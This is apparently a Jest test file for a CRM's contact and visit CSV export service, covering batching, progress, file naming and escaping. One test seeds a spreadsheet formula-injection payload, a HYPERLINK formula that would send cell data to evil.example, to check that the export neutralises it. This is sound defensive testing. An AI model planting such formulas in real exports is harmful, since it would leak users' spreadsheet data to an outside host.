import { mkdtemp, readFile, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { ContactModel } from '../../../src/models/contact.model';
import { writeCsvFile } from '../../../src/services/export/csv';
import {
  countWorkspaceData,
  exportFileNames,
  writeContactsCsv,
  writeVisitsCsv,
  type ExportOptions,
} from '../../../src/services/export/workspace-export.service';
import { clearCollections, useTestDatabase } from '../../support/database';
import { parseCsv, seedBook, seedContacts, seedVisit } from './export-seed';

useTestDatabase();

let dir: string;
beforeEach(async () => {
  await clearCollections();
  dir = await mkdtemp(path.join(tmpdir(), 'kontakt-export-test-'));
});
afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

/** Writes the export file and reads it back: what the service reported, and the bytes on disk. */
async function exported(
  write: typeof writeContactsCsv,
  workspaceId: string,
  options?: ExportOptions,
): Promise<{ rows: number; bytes: Buffer }> {
  const file = path.join(dir, `${Math.random()}.csv`);
  const written = await write(workspaceId, file, options);
  const bytes = await readFile(file);
  expect(written).toEqual({ path: file, filename: path.basename(file), rows: written.rows, bytes: bytes.length });
  return { rows: written.rows, bytes };
}
const exportContactsCsv = (workspaceId: string, options?: ExportOptions) =>
  exported(writeContactsCsv, workspaceId, options);
const exportVisitsCsv = (workspaceId: string, options?: ExportOptions) =>
  exported(writeVisitsCsv, workspaceId, options);

describe('writeContactsCsv', () => {
  it('writes a header and exactly the workspace’s contacts, with a person’s company No., and none of another workspace', async () => {
    const [company] = await seedContacts('T0001', [
      {
        type: 'company',
        name: 'Nordlys Maskin AS',
        address: 'Strandkaien 12',
        postCode: '5013',
        city: 'Bergen',
        phone: '+47 55 12 34 56',
        industryGroups: ['MANU', 'RETAIL'],
        vatRegNo: 'NO 987 654 325 MVA',
      },
    ]);
    await seedContacts('T0001', [
      {
        type: 'person',
        name: 'Kari Nordmann',
        companyId: company!.id,
        companyName: 'Nordlys Maskin AS',
        jobTitle: 'CEO',
        email: 'kari@nordlys.no',
      },
    ]);
    await seedContacts('T0002', [{ type: 'company', name: 'Elsewhere AS' }], 'XX');

    const file = await exportContactsCsv('T0001');
    expect(file.rows).toBe(2);
    expect(file.bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const records = parseCsv(file.bytes);
    expect(records.map((r) => r.Name)).toEqual(['Nordlys Maskin AS', 'Kari Nordmann']);
    expect(records[0]).toMatchObject({
      'No.': company!.no,
      Type: 'Company',
      Address: 'Strandkaien 12',
      City: 'Bergen',
      'Industry groups': 'MANU, RETAIL',
      'VAT Reg. No.': 'NO 987 654 325 MVA',
      'Privacy blocked': 'no',
      'Created by (Slack ID)': 'U0001',
    });
    // "+47…" starts like a formula, so it is written as text.
    expect(records[0]!.Phone).toBe("'+47 55 12 34 56");
    expect(records[1]).toMatchObject({
      Type: 'Person',
      'Company No.': company!.no,
      'Company name': 'Nordlys Maskin AS',
      'First name': 'Kari',
      Surname: 'Nordmann',
      'Job title': 'CEO',
    });
    expect(records[1]!['Created at (UTC)']).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
    expect(JSON.stringify(records)).not.toContain('Elsewhere');
  });

  it('neutralises cells a spreadsheet would run as formulas, and round-trips commas, quotes and line breaks', async () => {
    await seedContacts('T0001', [
      {
        type: 'company',
        name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        name2: '@SUM(A1:A9)',
        city: '-2+3',
        address: '\tTabbed',
        address2: 'Kaien 1, "bak", 2. etg\nBergen',
      },
    ]);
    const [record] = parseCsv((await exportContactsCsv('T0001')).bytes);
    expect(record!.Name).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"Click")');
    expect(record!['Name 2']).toBe("'@SUM(A1:A9)");
    expect(record!.City).toBe("'-2+3");
    expect(record!.Address).toBe("'\tTabbed");
    expect(record!['Address 2']).toBe('Kaien 1, "bak", 2. etg\nBergen');
  });

  it('walks a book larger than one batch in batches, reporting progress after each', async () => {
    const seeded = await seedBook('T0001', 2_500);
    await seedBook('T0002', 30);
    const progress: [number, number][] = [];
    const file = await exportContactsCsv('T0001', { onProgress: (done, total) => void progress.push([done, total]) });
    expect(progress).toEqual([
      [1_000, 2_500],
      [2_000, 2_500],
      [2_500, 2_500],
    ]);
    const records = parseCsv(file.bytes);
    expect(records).toHaveLength(2_500);
    expect(new Set(records.map((r) => r['No.']))).toEqual(new Set(seeded.map((c) => c.no)));
    const persons = records.filter((r) => r.Type === 'Person');
    expect(persons).toHaveLength(250);
    expect(persons.every((r) => /^CT\d{6}$/.test(r['Company No.'] ?? ''))).toBe(true);
  });

  it('writes just the header for an empty workspace', async () => {
    const file = await exportContactsCsv('T0EMPTY');
    expect(file.rows).toBe(0);
    expect(file.bytes.toString('utf8')).toMatch(/^\uFEFFNo\.,Type,Name,.*Updated by \(Slack ID\)\r\n$/);
  });
});

describe('writeVisitsCsv', () => {
  it('writes every visit of the workspace, cancelled ones marked, with the source message link', async () => {
    const [kari] = await seedContacts('T0001', [{ type: 'person', name: 'Kari Nordmann' }]);
    const [other] = await seedContacts('T0002', [{ type: 'person', name: 'Ola Elsewhere' }], 'XX');
    await seedVisit('T0001', kari!, {
      description: '=1+1 looked fine',
      cost: 12.5,
      followUpDate: '2026-12-01',
      source: { permalink: 'https://acme.slack.com/archives/C1/p1' },
    });
    await seedVisit('T0001', kari!, {
      status: 'cancelled',
      attemptFailed: true,
      evaluation: 'negative',
      companyName: 'Nordlys Maskin AS',
    });
    await seedVisit('T0002', other!);

    const progress: [number, number][] = [];
    const file = await exportVisitsCsv('T0001', { onProgress: (done, total) => void progress.push([done, total]) });
    expect(file.rows).toBe(2);
    expect(progress).toEqual([[2, 2]]);
    const records = parseCsv(file.bytes);
    expect(records[0]).toMatchObject({
      Date: '2026-11-24',
      'Contact No.': kari!.no,
      'Contact name': 'Kari Nordmann',
      'Salesperson (Slack ID)': 'U0001',
      Type: 'VISIT',
      'Type description': 'Visit',
      Description: "'=1+1 looked fine",
      Evaluation: 'Positive',
      'Attempt failed': 'no',
      'Duration (min)': '60',
      Cost: '12.5',
      'Follow-up date': '2026-12-01',
      Status: 'logged',
      'Source message': 'https://acme.slack.com/archives/C1/p1',
    });
    expect(records[1]).toMatchObject({
      Status: 'cancelled',
      'Attempt failed': 'yes',
      Evaluation: 'Negative',
      Company: 'Nordlys Maskin AS',
    });
    expect(JSON.stringify(records)).not.toContain('Elsewhere');
  });
});

describe('helpers', () => {
  it('counts a workspace’s contacts and visits', async () => {
    const [kari] = await seedContacts('T0001', [{ type: 'person', name: 'Kari Nordmann' }]);
    await seedVisit('T0001', kari!);
    await seedContacts('T0002', [{ type: 'person', name: 'Ola' }]);
    expect(await countWorkspaceData('T0001')).toEqual({ contacts: 1, visits: 1, opportunities: 0 });
    expect(await ContactModel.countDocuments({ workspaceId: 'T0002' })).toBe(1);
  });

  it('names the files after the workspace and the day', () => {
    expect(exportFileNames('T0001', '2026-11-24')).toEqual({
      contacts: 'kontakt-contacts-T0001-2026-11-24.csv',
      visits: 'kontakt-visits-T0001-2026-11-24.csv',
      opportunities: 'kontakt-opportunities-T0001-2026-11-24.csv',
    });
  });

  it('writes a CSV file with a byte-order mark, leaving numbers alone, negative ones too, while text that looks like one is escaped', async () => {
    const file = path.join(dir, 'cells.csv');
    expect(await writeCsvFile(file, [[-5, '-5', '+1', 'plain']])).toBe(21);
    expect((await readFile(file)).toString('utf8')).toBe("\uFEFF-5,'-5,'+1,plain\r\n");
  });

  it('never overwrites a file that is already there', async () => {
    const file = path.join(dir, 'taken.csv');
    await writeCsvFile(file, [['first']]);
    await expect(writeCsvFile(file, [['second']])).rejects.toThrow(/EEXIST/);
    expect((await readFile(file)).toString('utf8')).toBe('\uFEFFfirst\r\n');
    expect(await readdir(dir)).toEqual(['taken.csv']);
  });
});
